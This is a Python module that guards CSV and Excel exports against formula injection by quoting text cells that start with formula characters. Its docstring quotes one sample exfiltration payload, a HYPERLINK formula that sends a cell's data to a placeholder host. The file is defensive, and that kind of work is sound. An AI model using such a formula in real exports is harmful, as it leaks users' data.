"""Cells no spreadsheet evaluates: the one rule for every CSV and Excel file we write.

OWASP's CSV injection guidance: Excel, LibreOffice and Google Sheets read a text value that
begins with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula (a territory named
`=HYPERLINK("http://x/?"&A1,"open")` would call out with a colleague's data). In CSV such a
value is written with a single quote in front, which spreadsheets show and never evaluate.
Plain numbers held as text (`-5`, `+1.5e3`) are left alone: a spreadsheet reads them as
the numbers they are, and numeric columns are never touched. Excel workbooks store strings
as string cells (`XLSX_OPTIONS`), which no spreadsheet evaluates, so there the text stays
exactly as typed.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
XLSX_OPTIONS = {"strings_to_numbers": False, "strings_to_formulas": False,
                "strings_to_urls": False}
"""xlsxwriter workbook options: text is written as text, never as a formula or a link."""


def safe_text(value):
    """The value as a CSV cell no spreadsheet evaluates (non-text values unchanged)."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and \
            not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy for writing as CSV: text cells and column names through `safe_text`."""
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype == object or isinstance(out[col].dtype, pd.StringDtype):
            out[col] = out[col].map(safe_text)
    out.columns = [safe_text(c) for c in out.columns]
    return out


def csv_text(frame: pd.DataFrame) -> str:
    """The frame as CSV text safe to open: cells through `safe_frame`, lines ended with
    CRLF (RFC 4180), so a value holding a carriage return or a line feed is quoted and
    stays in its row (with "\n" endings Python's csv leaves a lone "\r" unquoted)."""
    return safe_frame(frame).to_csv(index=False, lineterminator="\r\n")


def safe_rows(rows: Iterable[Iterable]) -> list[list]:
    """Rows of cells (for `csv.writer`) through `safe_text`."""
    return [[safe_text(v) for v in row] for row in rows]
